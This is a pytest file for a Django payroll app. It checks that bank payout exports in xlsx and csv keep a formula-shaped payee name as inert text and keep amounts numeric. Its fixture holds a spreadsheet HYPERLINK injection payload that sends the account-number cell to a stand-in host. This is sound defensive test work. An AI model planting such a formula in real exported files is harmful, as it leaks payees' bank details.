"""The bank file never carries a live formula: a payee name stored before names were checked stays text."""
import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from huzhu.conftest import PASSWORD
from huzhu.members.models import Worker
from huzhu.payouts import services

from .conftest import everything

FORMULA = '=HYPERLINK("http://x.example/?"&C2,"点我")'


@pytest.fixture
def batch_with_a_formula_name(approve_claim, maker, checker):
    claim = approve_claim()
    Worker.objects.filter(pk=claim.worker_id).update(name=FORMULA)  # as stored before the name check existed
    batch = services.build_batch(actor=maker, filters=everything())
    services.approve_batch(actor=checker, batch=batch)
    return batch


def download(client, maker, batch, file_format) -> bytes:
    assert client.login(username=maker.username, password=PASSWORD)
    response = client.get(reverse("payouts:bank_file", args=[batch.pk, file_format]))
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_a_formula_name_in_the_bank_xlsx_is_a_string_cell_not_a_formula(client, maker, batch_with_a_formula_name):
    sheet = openpyxl.load_workbook(io.BytesIO(download(client, maker, batch_with_a_formula_name, "xlsx"))).active
    name = sheet["B2"]
    assert (name.value, name.data_type) == (FORMULA, "s")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet["E2"].data_type == "n"  # the amount is a number, as before the name check


def test_bank_xlsx_amounts_are_number_cells_that_excel_can_sum(client, maker, sent_batch):
    sheet = openpyxl.load_workbook(io.BytesIO(download(client, maker, sent_batch, "xlsx"))).active
    amounts = [row[4] for row in sheet.iter_rows(min_row=2)]
    assert len(amounts) == 3
    assert all(cell.data_type == "n" and cell.number_format == "0.00" for cell in amounts)
    assert sum(Decimal(str(cell.value)) for cell in amounts) == Decimal("1800.00")  # SUM gives the total, not 0
    account = sheet.cell(row=2, column=3)
    assert account.data_type == "s" and len(account.value) >= 16  # the account number stays text


def test_a_formula_name_in_the_bank_csv_is_quoted_as_text(client, maker, batch_with_a_formula_name):
    text = download(client, maker, batch_with_a_formula_name, "csv").decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text)))
    assert row[1] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
